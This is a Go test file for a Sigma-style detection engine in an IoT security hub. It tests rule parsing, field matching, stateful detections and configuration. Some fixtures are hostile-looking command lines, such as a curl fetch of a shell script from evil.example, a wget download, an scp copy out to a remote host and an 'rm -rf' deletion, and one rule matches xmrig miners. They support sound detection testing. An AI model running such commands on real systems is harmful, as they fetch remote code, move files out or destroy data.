package detect_test

import (
	"log/slog"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tvilling/tvilling"
	"github.com/tvilling/tvilling/internal/rulefile"
	"github.com/tvilling/tvilling/internal/security/detect"
	"github.com/tvilling/tvilling/internal/security/event"
	"github.com/tvilling/tvilling/internal/security/ledger"
	"github.com/tvilling/tvilling/internal/security/sigma"
	"github.com/tvilling/tvilling/internal/store/securitymem"
)

const minerRule = `title: Miner
id: 11111111-2222-4333-8444-555555555555
status: stable
description: A miner runs.
date: 2026-11-01
tags: [attack.impact, attack.t1496]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains: xmrig
  condition: selection
level: high
tvilling:
  type: IoT_Miner
  fold: [Image, User]
  remediation: [Stop it.]
`

// rule returns the text of a rule that matches where.
func rule(logsource, where string) string {
	return "title: T\nid: 11111111-2222-4333-8444-555555555556\nlogsource: " + logsource +
		"\ndetection:\n  selection:\n    " + where + "\n  condition: selection\nlevel: low\n"
}

// counter is a stateful detection that reports every third event of a device,
// and a device that was not heard for its parameter.
type counter struct{}

func (counter) Info() *detect.Info {
	return &detect.Info{
		ID: "counter", Type: "IoT_Count", Title: "Count", Source: detect.Builtin, Version: "1",
		Parameters: []detect.Parameter{{Name: "every", Unit: "count", Default: 3, Min: 1, Max: 10}},
	}
}

func (counter) Kinds() []event.Kind { return []event.Kind{event.HeartbeatKind} }

func (counter) Observe(s detect.Scope, e *event.Event, p detect.Values) {
	n := append(s.Memory(), 'x')
	if int64(len(n)) == p("every") {
		s.Report(detect.Finding{Hits: 1, Time: e.Time, Event: e, Item: -1})
		n = nil
	}
	s.Remember(n)
}

func (counter) Heard(s detect.Scope, _ detect.Values) { s.Wake(s.Received().Add(time.Hour)) }

func (counter) Tick(s detect.Scope, now time.Time, _ detect.Values) {
	s.Report(detect.Finding{Cause: "silent", Hits: 1, Time: now, Item: -1})
}

type world struct {
	*detect.Engine
	ledger *ledger.Ledger
	opt    detect.Options
}

func setup(t *testing.T, folder fstest.MapFS) *world {
	t.Helper()
	w := &world{ledger: ledger.NewLedger(securitymem.New())}
	w.opt = detect.Options{
		Decode: rulefile.Parse, Builtin: fstest.MapFS{"miner.yml": {Data: []byte(minerRule)}}, Folder: folder,
		Stateful: []detect.Stateful{counter{}}, Ledger: w.ledger, Logger: slog.New(slog.NewTextHandler(t.Output(), nil)),
		List: func(string) (sigma.List, bool) { return nil, false },
	}
	w.restart(t)
	return w
}

func (w *world) restart(t *testing.T) {
	t.Helper()
	e, err := detect.New(t.Context(), w.opt)
	if err != nil {
		t.Fatal(err)
	}
	w.Engine = e
}

var noon = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)

// observe returns "detection cause" of what is found in an item, or in an
// event without.
func (w *world) observe(t *testing.T, d *ledger.Device, kind event.Kind, items ...event.Item) (found []string) {
	t.Helper()
	m := &event.Message{From: tvilling.Device("d"), Sequence: 1, Received: noon, Events: []event.Event{{ID: "e", Kind: kind, Name: kind.String(), Time: noon, Items: items}}}
	_, err := w.Observe(d, m, nil, time.Time{}, func(f detect.Found) error {
		found = append(found, strings.TrimSpace(f.Info.ID+" "+f.Cause))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func TestRuleFindsAndFolds(t *testing.T) {
	w := setup(t, nil)
	p := &event.ProcessCreate{Executable: "/tmp/x", CommandLine: "/tmp/x --XMRig", UserName: "pump"}
	m := &event.Message{From: tvilling.Device("d"), Received: noon, Events: []event.Event{{Kind: event.ProcessCreateKind, Time: noon, Items: []event.Item{&event.ProcessCreate{CommandLine: "ls"}, p}}}}
	var found []detect.Found
	if _, err := w.Observe(&ledger.Device{ID: "d"}, m, nil, time.Time{}, func(f detect.Found) error { found = append(found, f); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(found) != 1 {
		t.Fatalf("%d findings, want 1", len(found))
	}
	f := found[0]
	if f.Type != "IoT_Miner" || f.Cause != "/tmp/x, pump" || f.Item != 1 || f.Hits != 1 || !f.Time.Equal(noon) || f.Severity != ledger.High {
		t.Errorf("finding = %+v", f.Finding)
	}
	want := []ledger.Match{{Selection: "selection", Field: "CommandLine", Value: "/tmp/x --XMRig", Pattern: f.Matched[0].Pattern}}
	if diff := cmp.Diff(want, f.Matched); diff != "" {
		t.Error(diff)
	}
	if !strings.Contains(f.Matched[0].Pattern, "xmrig") {
		t.Errorf("pattern = %q", f.Matched[0].Pattern)
	}
	if got, want := f.Techniques, []string{"T1496"}; !cmp.Equal(got, want) {
		t.Errorf("techniques = %v, want %v", got, want)
	}
	if !strings.HasPrefix(f.Version, "2026-11-01+") {
		t.Errorf("version = %q", f.Version)
	}
}

func TestKnownEventsAreLeftOut(t *testing.T) {
	w := setup(t, nil)
	m := &event.Message{From: tvilling.Device("d"), Received: noon, Events: []event.Event{{Kind: event.ProcessCreateKind, Items: []event.Item{&event.ProcessCreate{CommandLine: "xmrig"}}}}}
	_, err := w.Observe(&ledger.Device{}, m, []bool{true}, time.Time{}, func(f detect.Found) error {
		t.Errorf("found %s in an event that was sent before", f.Info.ID)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestFields(t *testing.T) {
	process := func(line string) event.Item {
		return &event.ProcessCreate{Executable: "/bin/sh", CommandLine: line, Extra: event.Details{{Name: "Hash", Value: "sha1:abcd"}, {Name: "Odd", Value: "7"}}}
	}
	out := &event.ConnectionCreate{Direction: "Out", RemoteAddress: "203.0.113.9", RemotePort: "443", LocalAddress: "10.0.0.5", LocalPort: "5", Protocol: "tcp"}
	in := &event.ConnectionCreate{Direction: "In", RemoteAddress: "203.0.113.9", RemotePort: "5", LocalAddress: "10.0.0.5", LocalPort: "22", Protocol: "tcp"}
	tests := []struct {
		name, logsource, where string
		kind                   event.Kind
		item                   event.Item
		want                   bool
	}{
		{"image", "{category: process_creation, product: linux}", "Image: /bin/sh", event.ProcessCreateKind, process("x"), true},
		{"wire name", "{product: tvilling, service: ProcessCreate}", "Executable|endswith: /sh", event.ProcessCreateKind, process("x"), true},
		{"hash", "{category: process_creation}", "Hash: ABCD", event.ProcessCreateKind, process("x"), true},
		{"detail", "{category: process_creation}", "ExtraDetails.Odd|gte: 7", event.ProcessCreateKind, process("x"), true},
		{"absent detail", "{category: process_creation}", "ExtraDetails.Other: 7", event.ProcessCreateKind, process("x"), false},
		{"host of a URL", "{category: process_creation}", "Hosts: evil.example", event.ProcessCreateKind, process("curl -s http://u:p@Evil.Example:8080/x.sh"), true},
		{"address", "{category: process_creation}", "Hosts: 192.0.2.7", event.ProcessCreateKind, process("wget --host=192.0.2.7 -O x"), true},
		{"user at host", "{category: process_creation}", "Hosts: h.example", event.ProcessCreateKind, process("scp f root@h.example:/tmp"), true},
		{"no host", "{category: process_creation}", "Hosts|exists: true", event.ProcessCreateKind, process("ls -l /tmp"), false},
		{"command", "{category: process_creation}", "Commands: rm -rf /x", event.ProcessCreateKind, process("sh -c 'sudo /bin/rm -rf /x'"), true},
		{"outbound", "{category: network_connection}", "{Initiated: 'true', DestinationIp: 203.0.113.9, DestinationPort: 443, DestinationIsPrivate: 'false'}", event.ConnectionCreateKind, out, true},
		{"inbound", "{category: network_connection}", "{Initiated: 'false', SourceIp: 203.0.113.9, DestinationPort: 22, DestinationIsPrivate: 'true'}", event.ConnectionCreateKind, in, true},
		{"login", "{category: authentication}", "Result: Fail", event.LoginKind, &event.Login{Result: "Fail"}, true},
		{"keyword", "{category: process_creation}", "keywords", event.ProcessCreateKind, process("run the Keyword here"), true},
		{"another kind", "{category: authentication}", "Result: Fail", event.ProcessCreateKind, process("Fail"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := setup(t, nil)
			text := rule(tt.logsource, tt.where)
			if tt.where == "keywords" {
				text = strings.Replace(text, "selection:\n    keywords", "selection:\n    - keyword", 1)
			}
			if strings.HasPrefix(tt.where, "{") {
				text = strings.Replace(text, "selection:\n    {", "selection: {", 1)
			}
			if _, err := w.PutRule(t.Context(), "own", text, "test"); err != nil {
				t.Fatal(err)
			}
			if got := len(w.observe(t, &ledger.Device{}, tt.kind, tt.item)) == 1; got != tt.want {
				t.Errorf("found = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestOwnRulesAreCheckedAndKept(t *testing.T) {
	w := setup(t, nil)
	good := rule("{category: process_creation}", "CommandLine: x")
	for name, text := range map[string]string{
		"no yaml":       "title: [",
		"no detection":  "title: T\nlogsource: {category: process_creation}\n",
		"unknown field": rule("{category: process_creation}", "ComandLine: x"),
		"no such log":   rule("{product: windows, service: sysmon}", "CommandLine: x"),
		"look-ahead":    rule("{category: process_creation}", "CommandLine|re: '(?=a)'"),
		"bad type":      good + "tvilling: {type: 'a b'}\n",
		"unknown own":   good + "tvilling: {colour: red}\n",
		"bad fold":      good + "tvilling: {fold: [Colour]}\n",
		"two rules":     good + "---\n" + good,
		"large":         good + "# " + strings.Repeat("x", detect.MaxRuleBytes),
	} {
		if _, err := w.PutRule(t.Context(), "own", text, "test"); err == nil || tvilling.CodeOf(err) == tvilling.Internal {
			t.Errorf("%s: %v, want a refusal", name, err)
		}
	}
	if _, err := w.PutRule(t.Context(), "miner", good, "test"); tvilling.CodeOf(err) != tvilling.InvalidArgument {
		t.Errorf("a name of the hub's own: %v, want InvalidArgument", err)
	}
	if _, err := w.PutRule(t.Context(), "../x", good, "test"); tvilling.CodeOf(err) != tvilling.InvalidArgument {
		t.Errorf("a name with a path: %v, want InvalidArgument", err)
	}
	if _, err := w.PutRule(t.Context(), "own", rule("{category: process_creation}", "ComandLine: x"), "test"); !strings.Contains(tvilling.MessageOf(err), "CommandLine") {
		t.Errorf("a misspelt field: %v, want the name that is meant", err)
	}
	if got := len(w.List()); got != 2 {
		t.Errorf("%d detections after refusals, want the 2 of before", got)
	}
	if _, err := w.PutRule(t.Context(), "own", good, "test"); err != nil {
		t.Fatal(err)
	}
	x := &event.ProcessCreate{CommandLine: "x"}
	w.restart(t)
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, x); !cmp.Equal(got, []string{"own"}) {
		t.Errorf("after a restart: %v, want own", got)
	}
	if text, err := w.Rule("own"); text != good || err != nil {
		t.Errorf("text = %q, %v", text, err)
	}
	if err := w.DeleteRule(t.Context(), "own", "test"); err != nil {
		t.Fatal(err)
	}
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, x); got != nil {
		t.Errorf("after deletion: %v", got)
	}
	if err := w.DeleteRule(t.Context(), "own", "test"); tvilling.CodeOf(err) != tvilling.NotFound {
		t.Errorf("deleted twice: %v, want NotFound", err)
	}
}

func TestFolder(t *testing.T) {
	folder := fstest.MapFS{
		"good.yml":   {Data: []byte(rule("{category: process_creation}", "CommandLine: x"))},
		"bad.yaml":   {Data: []byte("title: [")},
		"miner.yml":  {Data: []byte(rule("{category: process_creation}", "CommandLine: y"))},
		"readme.txt": {Data: []byte("no rule")},
	}
	w := setup(t, folder)
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, &event.ProcessCreate{CommandLine: "x"}); !cmp.Equal(got, []string{"good"}) {
		t.Errorf("found %v, want good", got)
	}
	if v, err := w.Get("bad"); err != nil || !strings.Contains(v.Error, "line 1") {
		t.Errorf("a broken file: %+v, %v; want its line", v, err)
	}
	if v, err := w.Get("miner"); err != nil || v.Error == "" {
		t.Errorf("a file with a name of the hub's own: error %q, %v; want it told", v.Error, err)
	}
	delete(folder, "good.yml")
	if err := w.Reload(); err != nil {
		t.Fatal(err)
	}
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, &event.ProcessCreate{CommandLine: "x"}); got != nil {
		t.Errorf("a rule that is gone found %v", got)
	}
}

func TestConfigure(t *testing.T) {
	w := setup(t, nil)
	off, on := false, true
	if _, err := w.Configure(t.Context(), "miner", &off, nil, "test"); err != nil {
		t.Fatal(err)
	}
	x := &event.ProcessCreate{CommandLine: "xmrig"}
	w.restart(t)
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, x); got != nil {
		t.Errorf("a detection that is off found %v", got)
	}
	if _, err := w.Configure(t.Context(), "miner", &on, nil, "test"); err != nil {
		t.Fatal(err)
	}
	if got := w.observe(t, &ledger.Device{}, event.ProcessCreateKind, x); len(got) != 1 {
		t.Error("a detection that is on again finds nothing")
	}
	for _, bad := range []map[string]int64{{"every": 0}, {"every": 11}, {"other": 1}} {
		if _, err := w.Configure(t.Context(), "counter", nil, bad, "test"); tvilling.CodeOf(err) != tvilling.InvalidArgument {
			t.Errorf("%v: %v, want InvalidArgument", bad, err)
		}
	}
	v, err := w.Configure(t.Context(), "counter", nil, map[string]int64{"every": 2}, "test")
	if err != nil || v.Values["every"] != 2 {
		t.Fatalf("view = %+v, %v", v, err)
	}
	d := &ledger.Device{ID: "d"}
	if got := append(w.observe(t, d, event.HeartbeatKind), w.observe(t, d, event.HeartbeatKind)...); len(got) != 1 {
		t.Errorf("with every=2, two events made %v", got)
	}
	if _, err := w.Configure(t.Context(), "none", &on, nil, "test"); tvilling.CodeOf(err) != tvilling.NotFound {
		t.Errorf("unknown detection: %v, want NotFound", err)
	}
}

func TestMemoryAndWakesLiveInTheRecord(t *testing.T) {
	w := setup(t, nil)
	d := &ledger.Device{ID: "d"}
	var found []string
	for range 3 {
		found = append(found, w.observe(t, d, event.HeartbeatKind)...)
		w.restart(t)
	}
	if !cmp.Equal(found, []string{"counter"}) {
		t.Errorf("three events over three engines made %v", found)
	}
	if want := noon.Add(time.Hour); !d.Due.Equal(want) {
		t.Errorf("due = %v, want %v", d.Due, want)
	}
	tick := func(now time.Time) (found []string) {
		if _, err := w.Tick(d, now, func(f detect.Found) error { found = append(found, f.Cause); return nil }); err != nil {
			t.Fatal(err)
		}
		return found
	}
	if got := tick(noon.Add(59 * time.Minute)); got != nil {
		t.Errorf("woken early: %v", got)
	}
	if got := tick(noon.Add(time.Hour)); !cmp.Equal(got, []string{"silent"}) {
		t.Errorf("woken: %v", got)
	}
	if !d.Due.IsZero() {
		t.Errorf("due = %v after the last wake", d.Due)
	}
}

func TestSettleDropsWhatNobodyRenews(t *testing.T) {
	d := &ledger.Device{}
	detect.SetWake(d, "gone", noon)
	detect.SetWake(d, "later", noon.Add(time.Hour))
	detect.Settle(d, noon)
	if want := noon.Add(time.Hour); !d.Due.Equal(want) {
		t.Errorf("due = %v, want %v", d.Due, want)
	}
	if _, ok := detect.WakeTime(d, "gone"); ok {
		t.Error("the wake that came is still there")
	}
}

func TestCauseIsBounded(t *testing.T) {
	a, b := detect.Cause(strings.Repeat("é", 1000)+"a"), detect.Cause(strings.Repeat("é", 1000)+"b")
	if len(a) > 256 || a == b {
		t.Errorf("long causes: %d bytes, the same: %v", len(a), a == b)
	}
}
